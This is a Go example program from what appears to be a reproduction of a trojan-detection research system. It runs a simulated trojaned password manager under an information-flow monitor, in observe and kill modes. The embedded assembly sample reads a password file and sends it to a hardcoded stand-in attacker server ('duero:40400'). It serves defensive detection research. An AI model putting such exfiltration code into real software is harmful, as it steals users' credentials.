// Trojan detection: the pwsafe scenario of paper §8.4.1. A password
// manager is trojaned to exfiltrate data to a hardcoded server; HTH
// catches the flow, and a kill-at-High advisor can stop a more
// aggressive variant before the data leaves.
//
// This example demonstrates:
//   - scripted remote peers (the attacker's collection server),
//   - information-flow warnings with full provenance,
//   - the continue/kill advisor loop of paper §4,
//   - recording a replayable JSONL event trace (-trace FILE; inspect
//     it with `hth-trace -replay FILE`).
package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	hth "repro"
	"repro/internal/secpert"
	"repro/internal/vos"
)

// The trojaned password manager: after its normal export work it
// opens a connection to a hardcoded host and sends the database.
const pwunsafe = `
.text
_start:
    ; normal behaviour: read the database, print it for the user
    mov ebx, dbpath
    mov ecx, 0
    mov eax, 5          ; open
    int 0x80
    mov ebx, eax
    mov ecx, dbbuf
    mov edx, 32
    mov eax, 3          ; read
    int 0x80
    mov edx, eax
    mov ecx, dbbuf
    mov ebx, 1
    mov eax, 4          ; write to stdout (benign)
    int 0x80
    ; trojan: exfiltrate the same buffer to the hardcoded server
    mov eax, 102
    mov ebx, 1          ; socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], srv
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    mov [scargs+4], dbbuf
    mov [scargs+8], 20
    mov eax, 102
    mov ebx, 9          ; send
    mov ecx, scargs
    int 0x80
    hlt
.data
dbpath: .asciz "/.pwsafe.dat"
srv:    .asciz "duero:40400"
dbbuf:  .space 32
scargs: .space 12
`

// sink is the attacker's collection server: it counts what arrives.
type sink struct{ received *int }

func (*sink) OnConnect(*vos.RemoteConn) {}

func (s *sink) OnData(_ *vos.RemoteConn, data []byte) {
	*s.received += len(data)
}

func main() {
	tracePath := flag.String("trace", "", "write run 1's JSONL event trace to this file")
	provenance := flag.Bool("provenance", false, "print the causal provenance chain under each warning")
	flag.Parse()

	observe := hth.DefaultConfig()
	observe.Provenance = *provenance
	enforce := observe
	enforce.Advisor = secpert.KillAtOrAbove(secpert.High)

	// The trace observer is attached to run 1 only: the observe run is
	// deterministic end to end, so its trace can be diffed or replayed.
	if *tracePath != "" {
		f, err := os.Create(*tracePath)
		if err != nil {
			log.Fatal(err)
		}
		defer f.Close()
		observe.Observers = append(observe.Observers, hth.JSONL(f))
	}

	fmt.Println("=== run 1: observe (continue past warnings) ===")
	stolen := runOnce(observe)
	fmt.Printf("bytes that reached the attacker: %d\n\n", stolen)

	fmt.Println("=== run 2: enforce (kill at High) ===")
	stolen = runOnce(enforce)
	fmt.Printf("bytes that reached the attacker: %d\n", stolen)
}

func runOnce(cfg hth.Config) int {
	sys := hth.NewSystem()
	sys.CreateFile("/.pwsafe.dat", []byte("site1:alice:hunter2\n"))

	received := 0
	sys.AddRemote("duero:40400", func() vos.RemoteScript {
		return &sink{received: &received}
	})
	sys.MustInstallSource("/bin/pwsafe", pwunsafe)

	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/pwsafe", Argv: []string{"/bin/pwsafe", "--exportdb"}})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(res.Report())
	if res.Process.Killed {
		fmt.Println("guest was KILLED by the monitor")
	}
	return received
}
